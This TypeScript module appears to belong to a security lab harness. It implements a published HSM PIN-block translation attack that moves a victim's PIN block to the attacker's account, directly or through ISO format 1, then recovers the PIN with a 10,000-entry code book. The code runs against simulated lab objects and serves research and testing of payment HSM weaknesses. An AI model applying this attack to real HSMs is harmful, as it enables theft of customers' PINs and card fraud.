/**
 * Translate and reformat. A PIN block of the victim becomes one of the attacker's own account: by
 * another account number in the request, or through format 1, which has none. Format 0 has no random
 * fill: a code book of the own account, 10,000 PINs typed once, then tells the PIN of every victim.
 */
import { attack } from '../attack.js';

const PINS = 10_000;

export const reformat = attack({
  name: 'reformat',
  title: 'a PIN block translated to another format or account number',
  source: 'Berkman, Ostrovsky 2007; Clulow 2003',
  roles: ['production'],
  note: 'the code book serves for every customer of the bank: one call or two for each',
  async run({ lab, attacker, say }) {
    const pvk = lab.key('P', { usage: 'PGK' });
    const key = lab.pinKey();
    const tableId = lab.table();
    const victim = lab.customer(1, { pvk, tableId });
    const own = lab.customer(2, { pvk, tableId });
    const pinBlock = lab.typed({ pin: lab.exposePin(victim.pan), pan: victim.pan, key });
    const iso = (format: 'iso0' | 'iso1') => ({ key, format });
    const moved = await attacker.firstOf([
      async () => {
        const made = await attacker.call('TranslatePinBlock', {
          pinBlock,
          pan: victim.pan,
          newPan: own.pan,
          from: iso('iso0'),
          to: iso('iso0'),
        });
        say("TranslatePinBlock with the attacker's own account number as the new one");
        return made.pinBlock;
      },
      async () => {
        const through = await attacker.call('TranslatePinBlock', {
          pinBlock,
          pan: victim.pan,
          from: iso('iso0'),
          to: iso('iso1'),
        });
        const made = await attacker.call('TranslatePinBlock', {
          pinBlock: through.pinBlock,
          pan: own.pan,
          from: iso('iso1'),
          to: iso('iso0'),
        });
        say('TranslatePinBlock to format 1, which binds no account, and from there to the own one');
        return made.pinBlock;
      },
    ]);
    const book = Array.from({ length: PINS }, (_, pin) => String(pin).padStart(4, '0'));
    const pin = book.find((one) => {
      const typed = lab.typed({ pin: one, pan: own.pan, key });
      return typed.every((byte, i) => byte === moved[i]);
    });
    if (pin === undefined) return attacker.nothingLearnt();
    say(`found among the ${PINS} PIN blocks of the own account, each typed once`);
    return { obtained: `the PIN ${pin}`, verified: pin === lab.exposePin(victim.pan) };
  },
});
